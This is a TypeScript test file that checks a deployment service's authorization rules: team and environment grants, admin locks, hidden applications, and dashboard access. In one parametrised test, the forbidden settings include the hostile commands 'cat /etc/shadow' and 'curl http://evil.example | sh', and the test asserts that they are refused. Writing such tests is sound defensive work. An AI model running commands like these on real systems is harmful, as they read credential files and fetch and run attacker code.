import type { Grant, Problem } from '@vesemir/contract'
import { startRedis, type RedisServer } from '@vesemir/testing/start-redis'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { anApplication } from './testing/start-api.ts'
import { startTwoTeams, tokenFor, type TwoTeams } from './testing/two-teams.ts'
import { openViewer } from './testing/viewer.ts'

const people: Record<string, readonly Grant[]> = {
  chief: [{ role: 'admin' }],
  dora: [{ role: 'deployer', teams: ['core'] }],
  everywhere: [{ role: 'deployer' }],
  vera: [{ role: 'viewer', applications: ['pay*'], environments: ['production'] }],
  tess: [{ role: 'deployer', environments: ['test'] }],
}

let server: RedisServer
beforeAll(async () => {
  server = await startRedis()
})
afterAll(() => server[Symbol.asyncDispose]())

function send(api: TwoTeams, who: string, method: 'GET' | 'POST' | 'PUT' | 'DELETE', url: string, payload?: object) {
  const headers = { authorization: `Bearer ${tokenFor(who)}` }
  return api.app.inject({ method, url, headers, ...(payload ? { payload } : {}) })
}

const order = { application: 'payments', environment: 'production', version: '1.4.2' }

describe('a deployer of one team', () => {
  it('neither locks, unlocks, cancels, deploys nor rolls back what is of another, which stays as it was', async () => {
    await using api = await startTwoTeams(server, { people })
    const { deploymentId: id } = api.fin
    const commands = `/v1/deployments/${id}/commands`
    await send(api, 'chief', 'PUT', '/v1/locks/ledger/production', { reason: 'stocktaking' })

    const answers = [
      await send(api, 'dora', 'PUT', '/v1/locks/ledger/production', { reason: 'mine' }),
      await send(api, 'dora', 'DELETE', '/v1/locks/ledger/production'),
      await send(api, 'dora', 'POST', commands, { command: 'cancel' }),
      await send(api, 'dora', 'POST', commands, { command: 'rollback' }),
      await send(api, 'dora', 'POST', '/v1/deployments', { ...order, application: 'ledger' }),
      await send(api, 'dora', 'POST', `/v1/plans/${api.fin.planId}/deployments`, {}),
    ]

    expect(answers.map(({ statusCode }) => statusCode)).toEqual([404, 404, 404, 404, 404, 404])
    expect(await api.records.applicationLocks.list()).toMatchObject([{ application: 'ledger', by: 'chief' }])
    expect((await api.records.deployments.read(id))!.commands).toEqual([])
    expect((await api.records.deploymentIndex.list({ application: 'ledger', limit: 9 })).deployments).toHaveLength(1)
  })

  it.each([
    ['team', { team: 'fin' }],
    ['cluster', { cluster: 'us' }],
    ['hosts', { hosts: { query: 'recipes:haproxy' } }],
    ['hosts', { hosts: { query: 'chef_environment:production', only: ['ledger-1'] } }],
    ['healthCheck', { healthCheck: { kind: 'command', command: 'cat /etc/shadow' } }],
    ['service', { service: { restart: 'curl http://evil.example | sh' } }],
    ['changeset', { changeset: { strategy: 'command', commands: ['echo show stat | socat - /run/haproxy.sock'] } }],
    ['hooks', { hooks: { beforeDrain: ['id'] } }],
    ['unmatchedServers', { unmatchedServers: 'refuse' }],
    ['notifications', { notifications: [{ to: 'ceo' }] }],
  ])('cannot change %s, neither deploying nor planning', async (setting, changes) => {
    await using api = await startTwoTeams(server, { people })

    const deployed = await send(api, 'dora', 'POST', '/v1/deployments', { ...order, ...changes })
    const planned = await send(api, 'dora', 'POST', '/v1/plans', { ...order, ...changes })

    for (const answer of [deployed, planned]) {
      expect(answer.json<Problem>()).toMatchObject({ code: 'FORBIDDEN', status: 403 })
      expect(answer.json<Problem>().detail).toContain(`The request changes ${setting}`)
    }
    expect((await api.records.deploymentIndex.list({ application: 'payments', limit: 9 })).deployments).toHaveLength(1)
  })

  it('deploys a plan only as far as a request of their own would', async () => {
    await using api = await startTwoTeams(server, { people })
    const planId = await api.records.plans.nextId()
    const { spec } = (await api.records.deployments.read(api.core.deploymentId))!
    const stored = (await api.records.plans.read(api.core.planId))!
    const changeset = { strategy: 'command' as const, commands: ['id'], timeout: '5m' }
    await api.records.plans.keep({ ...stored, id: planId, request: { ...stored.request, changeset }, spec })

    const answer = await send(api, 'dora', 'POST', `/v1/plans/${planId}/deployments`, {})
    const overLock = await send(api, 'dora', 'POST', `/v1/plans/${api.core.planId}/deployments`, { override: true })

    expect(answer.json<Problem>()).toMatchObject({ code: 'FORBIDDEN' })
    expect(overLock.json<Problem>()).toMatchObject({ code: 'FORBIDDEN' })
  })

  it('changes the pace, takes only some hosts, and repeats what the definition says', async () => {
    await using api = await startTwoTeams(server, { people })
    const changes = { concurrency: 2, hosts: { only: ['payments-1'] }, team: 'core', loadBalancer: { kind: 'none' } }

    const answer = await send(api, 'dora', 'POST', '/v1/deployments', { ...order, ...changes })

    expect(answer.statusCode).toBe(202)
  })
})

describe("an admin's lock", () => {
  it('is neither lifted nor replaced by a deployer, who lifts their own', async () => {
    await using api = await startTwoTeams(server, { people })
    const path = '/v1/locks/payments/production'
    await send(api, 'chief', 'PUT', path, { reason: 'stocktaking' })

    const lifted = await send(api, 'everywhere', 'DELETE', path)
    const replaced = await send(api, 'everywhere', 'PUT', path, { reason: 'mine' })
    const held = await api.records.applicationLocks.list()
    await send(api, 'chief', 'DELETE', path)
    await send(api, 'everywhere', 'PUT', path, { reason: 'mine' })
    const own = await send(api, 'everywhere', 'DELETE', path)

    expect([lifted, replaced].map((answer) => answer.json<Problem>().code)).toEqual(['FORBIDDEN', 'FORBIDDEN'])
    expect(held).toMatchObject([{ by: 'chief', reason: 'stocktaking' }])
    expect(own.statusCode).toBe(200)
  })
})

describe('what someone may not see', () => {
  it('is not suggested for a name that is nearly its own', async () => {
    await using api = await startTwoTeams(server, { people })
    const details = async (application: string) => {
      const answers = [
        await send(api, 'dora', 'GET', `/v1/applications/${application}`),
        await send(api, 'dora', 'POST', '/v1/deployments', { ...order, application }),
        await send(api, 'dora', 'PUT', `/v1/locks/${application}/production`, { reason: 'test' }),
      ]
      return answers.map((answer) => answer.json<Problem>().detail)
    }

    const [own, others] = [await details('paymets'), await details('ledgr')]

    for (const detail of own) expect(detail).toMatch(/^application paymets .*; did you mean payments\?$/)
    for (const detail of others)
      expect(detail).toMatch(/^application ledgr (is not registered|not found in production)$/)
    expect(await details('ledger')).toEqual(others.map((detail) => detail.replace('ledgr', 'ledger')))
  })

  it('is in no list, count, stream or dashboard', async () => {
    await using api = await startTwoTeams(server, { people })
    const path = `/v1/deployments/${api.fin.deploymentId}/events`
    const headers = { authorization: `Bearer ${tokenFor('vera')}` }

    const list = await send(api, 'vera', 'GET', '/v1/deployments?limit=1')
    const stream = await api.app.inject({ url: path, headers: { ...headers, accept: 'text/event-stream' } })
    const queues = await send(api, 'vera', 'GET', '/queues/view/api/queues')
    const socket = openViewer(api.socketUrl + path, { headers })

    expect(list.json()).toMatchObject({ deployments: [{ spec: { application: 'payments' } }] })
    expect(list.json()).not.toHaveProperty('next')
    expect([stream, queues].map(({ statusCode }) => statusCode)).toEqual([404, 404])
    await expect(socket).rejects.toMatchObject({ status: 404, body: { code: 'DEPLOYMENT_UNKNOWN' } })
  })

  it('is told apart by environment: a grant in test is none in production', async () => {
    await using api = await startTwoTeams(server, { people })

    const answers = [
      await send(api, 'tess', 'POST', '/v1/deployments', order),
      await send(api, 'tess', 'GET', `/v1/deployments/${api.core.deploymentId}`),
      await send(api, 'tess', 'GET', '/v1/applications/payments'),
    ]

    expect(answers.map(({ statusCode }) => statusCode)).toEqual([404, 404, 404])
  })
})

describe('the queue dashboard', () => {
  it('refuses strangers with 401 and their words, and logs no error', async () => {
    await using api = await startTwoTeams(server, { people })

    const answers = await Promise.all(
      ['/queues', '/queues/api/queues', '/queues/view', '/docs/json'].map((url) => api.app.inject({ url })),
    )

    expect(answers.map(({ statusCode }) => statusCode)).toEqual([401, 401, 401, 401])
    expect(answers[0]!.json()).toMatchObject({ code: 'UNAUTHENTICATED' })
    expect(api.log.filter(({ level }) => Number(level) >= 50)).toEqual([])
  })
})

describe('what someone may do', () => {
  it('is explained, with the grant that decides', async () => {
    await using api = await startTwoTeams(server, { people })
    const ask = (who: string, action: string) =>
      send(api, who, 'GET', `/v1/session/access?action=${action}&application=payments&environment=production`)

    const yes = await ask('dora', 'deploy')
    const no = await ask('vera', 'deploy')

    expect(yes.json()).toMatchObject({
      isAllowed: true,
      grant: { role: 'deployer', teams: ['core'] },
      reason: 'you may deploy payments in production, as deployer of team core',
    })
    expect(no.json()).toMatchObject({ isAllowed: false, reason: expect.stringContaining('your grant is viewer') })
  })
})

it('putting back servers of all environments needs a grant for each, also for one of another team', async () => {
  await using api = await startTwoTeams(server, { people: { ola: [{ role: 'admin', teams: ['core'] }] } })
  await api.records.applications.put(anApplication({ environments: { production: {}, test: { team: 'fin' } } }))
  const asked = { cluster: 'eu', application: 'payments', fix: true }
  const putBack = (body: object) => send(api, 'ola', 'POST', '/v1/load-balancers/doctor', { ...asked, ...body })

  const answers = [await putBack({}), await putBack({ environment: 'test' })]
  const own = await putBack({ environment: 'production' })

  expect(answers.map(({ statusCode }) => statusCode)).toEqual([403, 404])
  expect(own.json()).toMatchObject({ code: 'WORKER_TIMED_OUT' })
})

it.each<[string, object, Grant]>([
  ['cluster', { cluster: 'us' }, { role: 'admin', clusters: ['eu'] }],
  ['team', { team: 'fin' }, { role: 'admin', teams: ['core'] }],
])('recovering all environments needs a grant for each, also for one of another %s', async (_, other, grant) => {
  await using api = await startTwoTeams(server, { people: { ola: [grant] }, clusters: ['eu', 'us'] })
  await api.records.applications.put(anApplication({ environments: { production: {}, test: other } }))
  const recover = (body: object) => send(api, 'ola', 'POST', '/v1/applications/payments/recovery', body)

  const answers = [await recover({}), await recover({ fix: true }), await recover({ environment: 'test' })]
  const own = await recover({ environment: 'production' })

  expect(answers.map(({ statusCode }) => statusCode)).toEqual([404, 404, 404])
  expect(own.json()).toMatchObject({ code: 'WORKER_TIMED_OUT' })
})
